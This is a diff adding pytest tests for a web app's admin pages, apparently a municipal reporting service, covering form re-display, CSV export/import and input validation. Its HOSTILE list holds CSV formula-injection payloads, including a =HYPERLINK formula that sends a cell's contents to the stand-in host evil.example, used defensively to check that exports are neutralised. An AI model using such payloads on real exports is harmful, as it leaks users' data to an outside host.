@@ -3,10 +3,16 @@ with the reason, never a 500."""
 
 from __future__ import annotations
 
+import csv
+import html
+import io
+import re
+
 import pytest
 from sqlmodel import select
 
-from app.models import RoutingRule, StaffUser, Unit
+from app.models import Category, RoutingRule, StaffUser, Unit
+from app.services import csvfile, registry
 from tests.factories import csrf_token, log_in, login_as, make_staff
 
 
@@ -26,6 +32,15 @@ def admin(client, session) -> Admin:  # type: ignore[no-untyped-def]
 
 def post(client, admin, url: str, **data: str):  # type: ignore[no-untyped-def]
     return client.post(url, data={"csrf_token": admin.token, **data}, follow_redirects=False)
+
+
+def input_value(page: str, name: str) -> str | None:
+    """The value the form's `name` input shows (None: no such input)."""
+    tag = re.search(rf'<input[^>]*\bname="{name}"[^>]*>', page)
+    if tag is None:
+        return None
+    value = re.search(r'\bvalue="([^"]*)"', tag.group(0))
+    return html.unescape(value.group(1)) if value else ""
 
 
 def test_the_overview_counts_and_says_where_mail_goes(client, admin):
@@ -72,9 +87,12 @@ def test_a_wrong_account_form_comes_back_with_the_reason(
     make_staff(session, "planner", email="taken@boden.example")
     form = {"email": "new@boden.example", "name": "", "role": "planner", "unit": ""}
     form["password"] = "long enough password"
-    answer = post(client, admin, "/admin/users", **{**form, **data})
+    typed = {**form, **data}
+    answer = post(client, admin, "/admin/users", **typed)
     assert answer.status_code == status and message in answer.text
-    assert 'value="' + form["email"] in answer.text or "taken" in answer.text.lower()
+    # The form comes back with what was typed, so only the wrong field needs fixing.
+    assert input_value(answer.text, "email") == typed["email"]
+    assert input_value(answer.text, "password") == ""  # a password is never sent back
 
 
 def test_a_deactivated_users_session_stops_working_at_once(client, admin, session, app):
@@ -242,3 +260,124 @@ def test_anonymous_visitors_are_sent_to_login(client):
     assert (
         answer.status_code == 303 and answer.headers["location"] == "/login?next=%2Fadmin%2Frules"
     )
+
+
+@pytest.mark.parametrize("kind", list(registry.KINDS))
+def test_every_kind_has_its_list_edit_and_csv_pages(client, admin, session, kind):
+    registry.save(session=session, kind="rules", raw={"category": "", "zone": "", "unit": "parks"})
+    listed = client.get(f"/admin/{kind}")
+    assert listed.status_code == 200 and f'action="/admin/{kind}"' in listed.text
+    row = registry.KINDS[kind].listed(session)[0]
+    page = client.get(f"/admin/{kind}/{row.id}")
+    assert page.status_code == 200
+    assert f'action="/admin/{kind}/{row.id}/delete"' in page.text
+    first_text = next(
+        (c for c in registry.KINDS[kind].columns if input_value(page.text, c) is not None), None
+    )
+    if first_text:  # the edit form shows the row as the CSV has it
+        shown = registry.row_values(session=session, kind=kind, row=row)[first_text]
+        assert input_value(page.text, first_text) == shown
+    download = client.get(f"/admin/export/{kind}")
+    assert download.status_code == 200
+    assert download.text.splitlines()[0] == ",".join(registry.KINDS[kind].columns)
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1)', "+46 70 123", "-1+2", "@SUM(A1:A9)"]
+
+
+def formula_cells(text: str) -> list[str]:
+    """The cells of a CSV file that a spreadsheet would run as a formula."""
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    return [cell for cell in cells if cell.startswith(csvfile.FORMULA_STARTS)]
+
+
+def upload(client, admin, kind: str, data: bytes):  # type: ignore[no-untyped-def]
+    return client.post(
+        f"/admin/import/{kind}",
+        data={"csrf_token": admin.token},
+        files={"file": ("x.csv", data, "text/csv")},
+    )
+
+
+def test_a_csv_export_with_hostile_names_opens_as_text_and_imports_back_unchanged(
+    client, admin, session
+):
+    for n, name in enumerate(HOSTILE):
+        answer = post(
+            client,
+            admin,
+            "/admin/units",
+            slug=f"hostile-{n}",
+            name_sv=name,
+            name_en=name,
+            department_sv=name,
+            email="",
+        )
+        assert answer.status_code == 303
+    made = post(
+        client,
+        admin,
+        "/admin/categories",
+        slug="minus",
+        name_sv="-x",
+        name_en="=1+1",
+        icon="dots",
+        kind="problem",
+        position="-5",
+        active="true",
+    )
+    assert made.status_code == 303
+
+    for kind in ("units", "categories"):
+        download = client.get(f"/admin/export/{kind}")
+        assert formula_cells(download.text) == []
+        assert "'=1+1" in download.text or kind == "units"
+        assert "'@SUM(A1:A9)" in download.text or kind == "categories"
+        again = upload(client, admin, kind, download.content)
+        assert again.status_code == 200 and "Imported." in again.text
+        assert "0 new, 0 changed" in again.text
+        assert client.get(f"/admin/export/{kind}").text == download.text
+    session.expire_all()
+    units = {u.slug: u for u in registry.units(session=session)}
+    assert [units[f"hostile-{n}"].name_sv for n in range(len(HOSTILE))] == HOSTILE
+    assert [units[f"hostile-{n}"].department_sv for n in range(len(HOSTILE))] == HOSTILE
+    minus = session.exec(select(Category).where(Category.slug == "minus")).one()
+    assert (minus.name_sv, minus.name_en, minus.position) == ("-x", "=1+1", -5)
+
+
+def test_a_leading_tab_from_elsewhere_is_protected_on_export_and_trimmed_on_import(
+    client, admin, session
+):
+    # A form or a file trims its fields, so only another way in leaves a leading tab.
+    parks = session.exec(select(Unit).where(Unit.slug == "parks")).one()
+    parks.department_en = "\t=1+1"
+    session.add(parks)
+    session.commit()
+    download = client.get("/admin/export/units")
+    assert formula_cells(download.text) == [] and "'\t=1+1" in download.text
+    again = upload(client, admin, "units", download.content)
+    assert again.status_code == 200 and "0 new, 1 changed" in again.text
+    session.expire_all()
+    assert session.get(Unit, parks.id).department_en == "=1+1"
+
+
+def test_wrong_kinds_and_wrong_fields_get_a_clear_4xx(client, admin, session):
+    assert client.get("/admin/zones").status_code == 422
+    assert post(client, admin, "/admin/zones", slug="x").status_code == 422
+    assert client.get("/admin/units/0").status_code == 422
+    long = post(client, admin, "/admin/units", slug="long", name_sv="x" * 401, name_en="x")
+    assert long.status_code == 422
+    sneaky = client.post(
+        "/admin/units",
+        data={"csrf_token": admin.token, "slug": "file", "name_en": "x"},
+        files={"name_sv": ("a.txt", b"Namn", "text/plain")},
+        follow_redirects=False,
+    )
+    assert sneaky.status_code == 422 and "This field is required." in sneaky.text
+    # NUL and other control characters are never meant (and PostgreSQL refuses NUL).
+    nul = post(
+        client, admin, "/admin/units", slug="nul", name_sv="Gat\x00or", name_en="Str\x07eets"
+    )
+    assert nul.status_code == 303
+    made = session.exec(select(Unit).where(Unit.slug == "nul")).one()
+    assert (made.name_sv, made.name_en) == ("Gator", "Streets")
